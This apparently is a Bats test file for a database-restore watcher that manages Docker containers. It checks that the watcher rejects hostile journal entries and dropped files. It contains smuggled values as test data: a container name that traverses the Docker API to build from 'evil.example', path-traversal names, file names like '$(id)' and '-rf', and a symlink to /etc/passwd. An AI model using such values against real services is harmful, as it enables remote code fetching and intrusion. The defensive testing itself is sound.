# pgrestore watch and what strangers may drop: a journal of their own, files that cannot be restored, taken or read to
# an end, and files that name a database.
# shellcheck disable=SC2030,SC2031 # each test is a subshell

load ../lib/base
load ../lib/pgbackup
load ../lib/pgrestore
load ../lib/watch

setup_file() {
	export BATS_TEST_TIMEOUT=120
	watch_suite
	# A journal, as a watcher makes it.
	watch_folder
	unset DOCKER_HOST
	# shellcheck disable=SC2034 # watch_start reads it
	BATS_TEST_TMPDIR=$BATS_FILE_TMPDIR BOX=$BATS_FILE_TMPDIR/first
	export RESTORE_STATE_FILE=$BATS_FILE_TMPDIR/journal.db
	mkdir -p "$BOX/incoming"
	DATABASE_URL=$(url app) RESTORE_WATCH_DIR=$BOX/incoming watch_start
	deliver "$DUMP.junk" junk
	lands failed junk
	watch_stop
	unset RESTORE_STATE_FILE
}

teardown_file() {
	server_stop "$SERVER"
}

setup() {
	watch_begin
	WATCHER=()
}

teardown() {
	watch_clear
}

# on_a_mount [FILE]: the drop folder is a mount of its own for the watcher, and so is a file in it.
on_a_mount() {
	unshare --mount true 2>/dev/null || skip 'needs the right to mount'
	mkdir -p "$BOX/incoming"
	# shellcheck disable=SC2034 # watch_start reads it
	WATCHER=(unshare --mount bash -c 'mount --bind "$0" "$0" && shift && [ -z "$1" ] || mount --bind "$0/$1" "$0/$1"
		shift; exec "$@"' "$BOX/incoming" -- "${1:-}")
}

# owes FILE NAME...: a journal that says that these containers are to be started.
owes() {
	local file=$1
	shift
	mkdir -p "${file%/*}"
	cp "$BATS_FILE_TMPDIR/journal.db" "$file"
	python3 -c 'import os, sqlite3, sys
db = sqlite3.connect(sys.argv[1])
db.executemany("insert into stops (run, name, place, planned) values (1, ?, 0, ?)", [(name, "2026") for name in sys.argv[2:]])
db.execute("update runs set dir = ?", (os.environ["RESTORE_WATCH_DIR"],)); db.commit()' "$file" "$@"
}

shop() {
	engine_start '[{"name": "web", "running": false}, {"name": "other", "running": false},
		{"name": "api", "running": false, "labels": {"pgbox.restore.stop": "true"}}]'
}

# only_names: nothing else was asked of the engine than what containers are.
only_names() {
	equals "$(grep -vE '^(GET /containers/(json\?all=1|[a-z0-9-]+/json)|POST /containers/[a-z0-9-]+/(stop|start)) ?' "$ENGINE/requests" || true)" ''
}

@test "a journal in a drop folder that is a mount of its own sends nothing to the engine, and starts no container of others" {
	shop
	on_a_mount
	owes "$BOX/incoming/.pgbox/journal.db" '../build?remote=http://evil.example/ctx.tar&x=' other web api 'a/../../b' .. ''
	RESTORE_STOP_CONTAINERS=web watch_start
	only_names
	equals "$(up)" 'api web'
	equals "$(asked)" 'start api start web'
	said "the journal names a container 'other', which is not one of this watcher's: it is not started"
	# It was moved, with what it knew.
	test ! -e "$BOX/incoming/.pgbox/journal.db"
	equals "$(lite "$BOX/state/journal.db" "select name, status from runs order by id")" $'junk|failed\njournal.db|adopted'
	equals "$(lite "$BOX/state/journal.db" "select count(*) from stops where started is null")" 0
	watch_stop
	# Nor is another one ever read there.
	owes "$BOX/incoming/.pgbox/journal.db" api
	RESTORE_STOP_CONTAINERS=web watch_start
	equals "$(asked)" 'start api start web'
}

@test "names are checked in the watcher's own journal, too, and it goes on" {
	shop
	owes "$BOX/state/journal.db" '../build?x=' '%2e%2e' other
	RESTORE_STOP_CONTAINERS=web watch_start
	only_names
	equals "$(up)" other
	said 'which is not one of this watcher'
	deliver "$DUMP"
	lands 'done' new.dump
}

@test "a journal in the drop folder owes what it owes while the engine is not up yet" {
	shop
	touch "$ENGINE/down"
	owes "$BOX/.pgbox/journal.db" api
	watch_start
	said "container 'api' cannot be started again"
	watch_kill
	watch_start
	rm "$ENGINE/down"
	wait_until 20 is_up api
}

is_up() {
	[ "$(up)" = "$1" ]
}

@test "one that is no journal, a view, a pipe or a link is left where it is, and that is said" {
	local made
	engine_start '[{"name": "api", "running": false, "labels": {"pgbox.restore.stop": "true"}}]'
	for made in 'echo garbage >' 'python3 -c "$view"' mkfifo "ln -s $BATS_FILE_TMPDIR/journal.db"; do
		rm -rf "$BOX"
		mkdir -p "$BOX/.pgbox"
		eval "$made $BOX/.pgbox/journal.db"
		watch_start
		said 'cannot take over the journal'
		test -e "$BOX/.pgbox/journal.db"
		equals "$(asked)" ''
		watch_stop
		: >"$LOG"
	done
}

# shellcheck disable=SC2016,SC2034 # evaluated above
view='
import sqlite3, sys
db = sqlite3.connect(sys.argv[1])
db.executescript("create table runs (applet); create view stops as with recursive n(i) as (select 1 union all select i from n)"
    " select i id, 1 run, \"api\" name, 0 place, \"x\" planned, null started from n")'

@test "a journal that pgbackup writes as well stays where it is" {
	shop
	owes "$BOX/.pgbox/journal.db" api
	python3 -c 'import sqlite3, sys
db = sqlite3.connect(sys.argv[1])
db.execute("insert into runs (applet, started, status) values (?, ?, ?)", ("pgbackup", "2026", "done")); db.commit()' \
		"$BOX/.pgbox/journal.db"
	watch_start
	equals "$(up)" api
	test -e "$BOX/.pgbox/journal.db"
}

@test "a state folder that everybody may write to is refused where containers are stopped, and one of a group is said" {
	shop
	mkdir -p "$BOX/state" "$BOX/open/state"
	chmod 777 "$BOX/state"
	RESTORE_STOP_CONTAINERS=web exits 78 pgrestore watch
	says "others may write to '$BOX/state', and the journal there says which containers to start: set RESTORE_STATE_DIR"
	chmod 777 "$BOX/open"
	RESTORE_STATE_FILE=$BOX/open/state/j.db RESTORE_STOP_CONTAINERS=web exits 78 pgrestore watch
	says "others may write to '$BOX/open'"
	chmod 775 "$BOX/state"
	watch_start
	said "warning: the folder of the journal, '$BOX/state', belongs to uid $(id -u) and has mode 775"
	watch_stop
	touch "$BOX/file"
	RESTORE_STATE_DIR=$BOX/file/state RESTORE_STOP_CONTAINERS=web exits 73 pgrestore watch
	says 'mount a volume there that this user may write to, or set RESTORE_STATE_DIR'
}

@test "a restore that takes longer than RESTORE_TIMEOUT is ended, its file fails, and the next is restored" {
	unset DOCKER_HOST
	export RESTORE_TIMEOUT=2s
	watch_start
	deliver "$DUMP.slow" slow.sql
	deliver "$DUMP" next.dump
	lands failed slow.sql
	logged slow.sql "'slow.sql' is not restored: it took longer than 2s"
	RESTORE_TIMEOUT=1m
	lands 'done' next.dump
	equals "$(rows app)" 5
}

@test "a file that cannot be taken keeps no other from being restored" {
	unset DOCKER_HOST
	on_a_mount first.dump
	cp "$DUMP" "$BOX/incoming/first.dump"
	watch_start
	said "cannot take '$BOX/incoming/first.dump': "
	BOX=$BOX/incoming
	mkdir "$BOX/incoming"
	cp "$DUMP" "$BOX/.second" && mv "$BOX/.second" "$BOX/second.dump"
	lands 'done' second.dump
	equals "$(rows app)" 5
}

@test "names with control bytes, line ends, bytes that are no UTF-8, and of 255 bytes: each comes to where it belongs" {
	local name long
	unset DOCKER_HOST
	watch_start
	long=$(printf 'x%.0s' {1..250})
	for name in $'line\nend' $'\e[31mred' $'bad\xff' "$long-long" "${long:0:249}ü-abc" -rf '$(id)' "a'b"; do
		cp "$DUMP.junk" "$BOX/incoming/$name"
	done
	cp "$DUMP.junk" "$BOX/failed/$long-long"
	deliver "$DUMP"
	lands 'done' new.dump
	wait_until 20 all_failed
	equals "$(find "$BOX/incoming" "$BOX/.processing" -type f)" ''
	not grep -qP '[\x00-\x08\x0b-\x1f]' "$LOG" "$BOX"/failed/*.log
	# No line of a log is the file's.
	equals "$(cat "$BOX"/failed/line*.log | grep -cv '^20')" 0
}

all_failed() {
	[ "$(find "$BOX/failed" -name '*.log' -printf x | wc -c)" = 8 ]
}

@test "pipes, links and folders in the place of a file or of what goes with it keep no other from being restored" {
	unset DOCKER_HOST
	mkdir -p "$BOX/incoming/folder.dump.sha256"
	mkfifo "$BOX/incoming/pipe.dump" "$BOX/incoming/one.dump.sha256" "$BOX/incoming/one.dump.json"
	ln -s /etc/passwd "$BOX/incoming/two.dump.json"
	ln -s "$BOX/nowhere" "$BOX/incoming/two.dump.ok"
	truncate -s 4T "$BOX/incoming/huge.dump"
	sha256sum <"$DUMP" >"$BOX/incoming/huge.dump.sha256"
	touch "$BOX/incoming/huge.dump.ok"
	watch_start
	cp "$DUMP.junk" "$BOX/incoming/folder.dump"
	lands failed huge.dump
	lands failed folder.dump
	deliver "$DUMP" one.dump
	lands 'done' one.dump
	deliver "$DUMP" two.dump
	lands 'done' two.dump
}

@test "nothing is moved, logged or read through a symlink where one of the watcher's own folders was" {
	local folder
	unset DOCKER_HOST
	mkdir "$BATS_TEST_TMPDIR/elsewhere"
	watch_start
	for folder in 'done' failed .processing; do
		mv "$BOX/$folder" "$BOX/was-$folder"
		ln -s "$BATS_TEST_TMPDIR/elsewhere" "$BOX/$folder"
	done
	deliver "$DUMP"
	said 'cannot take'
	rm "$BOX/.processing"
	mv "$BOX/was-.processing" "$BOX/.processing"
	deliver "$DUMP" second.dump
	said "'second.dump' is restored"
	said 'cannot move on'
	equals "$(find "$BATS_TEST_TMPDIR/elsewhere" -mindepth 1)" ''
	test -e "$BOX/.processing/second.dump"
	equals "$(rows app)" 5
}

# --- which database ---

# nameless [DATABASE...]: a login without a database.
nameless() {
	unset DOCKER_HOST DATABASE_URL
	export PGHOST=127.0.0.1 PGUSER=postgres PGPORT
	PGPORT=$(cat "$SERVER/port")
}

@test "a file chooses no database where none is configured: it fails, and names both" {
	nameless
	watch_start
	deliver "$DUMP"
	lands failed new.dump
	logged new.dump "the backup is of database 'source', and this watcher restores into 'postgres'"
	equals "$(befores source)" ''
	# Nor does its manifest.
	exits 0 pgbackup run source --url "$(url source)"
	deliver "$(newest source).json" set.dump.json
	deliver "$(newest source)" set.dump
	lands failed set.dump
	logged set.dump "database 'source'"
	equals "$(befores source)" ''
}

@test "RESTORE_ALLOW_DATABASES: a file may name one of them, and no other, whatever else is configured" {
	unset DOCKER_HOST
	export RESTORE_ALLOW_DATABASES='app, source'
	watch_start
	deliver "$DUMP"
	lands 'done' new.dump
	equals "$(rows app)" 1
	equals "$(befores source | wc -l)" 1
	sql postgres "drop database $(befores source)"
	watch_stop
	nameless
	RESTORE_ALLOW_DATABASES=app,apple watch_start
	deliver "$DUMP" second.dump
	lands failed second.dump
	logged second.dump "database 'source', and this watcher restores into 'postgres'; RESTORE_ALLOW_DATABASES allows 'app', 'apple'"
	equals "$(befores source)" ''
}

# --- at its start, and --status ---

@test "the watcher says at its start what is missing, and --status names it with 1; then all is well, and 0" {
	watch_start
	said "warning: no folder '$BOX/incoming' found, so it is made"
	said "warning: a file that is dropped now cannot be restored: the engine at '$BATS_TEST_TMPDIR/engine/socket' does not answer"
	exits 1 pgrestore watch --status
	grep -qF "[-]engine failed: the engine at '$BATS_TEST_TMPDIR/engine/socket' does not answer" <<<"$output"
	engine_start '[{"name": "web", "running": true}]'
	exits 0 pgrestore watch --status
	equals "$output" $'[+]folder ok\n[+]watcher ok\n[+]engine ok\n[+]database ok'
	RESTORE_STOP_CONTAINERS=wep exits 1 pgrestore watch --status
	grep -qF "[-]engine failed: RESTORE_STOP_CONTAINERS: no container 'wep' found" <<<"$output"
	equals "$(asked)" ''
	watch_stop
	exits 1 pgrestore watch --status
	grep -qF "[-]watcher failed: no watcher of '$BOX/incoming' is running" <<<"$output"
	RESTORE_WATCH_DIR=$BOX/nowhere exits 1 pgrestore watch --status
	grep -qF "[-]folder failed: no folder '$BOX/nowhere' found: mount it, or set RESTORE_WATCH_DIR" <<<"$output"
	test ! -e "$BOX/nowhere"
	DATABASE_URL=postgres://postgres@127.0.0.1:1/app exits 1 pgrestore watch --status
	grep -qF '[-]database failed: ' <<<"$output"
}

@test "an unreachable database is said at the start, and the watcher waits for files all the same" {
	unset DOCKER_HOST
	DATABASE_URL=postgres://postgres@127.0.0.1:1/app watch_start
	said 'warning: a file that is dropped now cannot be restored: '
	watch_stop
}
